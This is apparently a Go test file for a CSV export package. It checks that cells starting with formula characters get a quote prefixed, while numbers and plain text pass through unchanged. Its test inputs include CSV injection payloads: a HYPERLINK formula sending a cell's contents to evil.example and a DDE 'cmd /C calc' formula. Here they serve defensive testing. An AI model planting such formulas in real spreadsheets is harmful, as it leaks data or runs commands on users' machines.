package spreadsheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		// Formulas of issue 15, and every character OWASP names.
		`=HYPERLINK("http://evil.example/?leak="&A1,"Tallinn")`: `'=HYPERLINK("http://evil.example/?leak="&A1,"Tallinn")`,
		"=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
		"+1+cmd":             "'+1+cmd",
		"-2+3":               "'-2+3",
		"@SUM(A1:A2)":        "'@SUM(A1:A2)",
		"\t=1":               "'\t=1",
		"\r=1":               "'\r=1",
		"-":                  "'-",
		"- ":                 "'- ",
		// Numbers stay numbers, negative ones too, with a point or a comma.
		"-12.5": "-12.5", "-3,4": "-3,4", "+7": "+7", "-0": "-0", "-.5": "-.5", "1e-7": "1e-7", "-2E+10": "-2E+10",
		"33.333333333333336": "33.333333333333336",
		// Everything else as it was.
		"": "", "Tallinn": "Tallinn", "Tõrva vald": "Tõrva vald", "0784": "0784", "I.4": "I.4", "a=b": "a=b",
		"not_achieved": "not_achieved", "low_coverage;forecast": "low_coverage;forecast", " =1": " =1",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriterQuotesAndNeutralises: the writer's CSV reads back as the neutralised
// cells, whatever separators, quotes and line breaks they hold.
func TestWriterQuotesAndNeutralises(t *testing.T) {
	records := [][]string{{"name", "value"}, {`=HYPERLINK("x","y")`, "-1.5"}, {"a,b\n\"c\"", "@x;y"}}
	var buf bytes.Buffer
	if err := NewWriter(&buf).WriteAll(records); err != nil {
		t.Fatal(err)
	}
	back, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"name", "value"}, {`'=HYPERLINK("x","y")`, "-1.5"}, {"a,b\n\"c\"", "'@x;y"}}
	for i := range want {
		for j := range want[i] {
			if back[i][j] != want[i][j] {
				t.Errorf("cell %d,%d: %q, want %q", i, j, back[i][j], want[i][j])
			}
		}
	}
	var semi bytes.Buffer
	w := NewWriter(&semi)
	w.Comma = ';'
	w.WriteAll([][]string{{"-3,4", "=1;2"}})
	if semi.String() != "-3,4;\"'=1;2\"\n" {
		t.Errorf("with ';': %q", semi.String())
	}
}

// TestWriteRecords: typed records are written by their csv tags, the header through
// Header, every cell (header too) through Cell, numbers at full precision and a nil
// number empty; Columns are the same header.
func TestWriteRecords(t *testing.T) {
	type record struct {
		Name  string   `csv:"col.name"`
		Count int      `csv:"col.count"`
		Share *float64 `csv:"col.share"`
	}
	third := 100.0 / 3
	var buf bytes.Buffer
	w := NewWriter(&buf)
	w.Comma = ';'
	w.Header = func(key string) string { return map[string]string{"col.name": "Nimi", "col.count": "=Arv"}[key] }
	if err := w.WriteRecords([]record{{`=HYPERLINK("x")`, -2, &third}, {"Tõrva", 0, nil}}); err != nil {
		t.Fatal(err)
	}
	want := "Nimi;'=Arv;\n\"'=HYPERLINK(\"\"x\"\")\";-2;33.333333333333336\nTõrva;0;\n"
	if buf.String() != want {
		t.Errorf("got %q, want %q", buf.String(), want)
	}
	columns, err := Columns[record]()
	if err != nil || strings.Join(columns, ",") != "col.name,col.count,col.share" {
		t.Errorf("Columns: %v, %v", columns, err)
	}
}
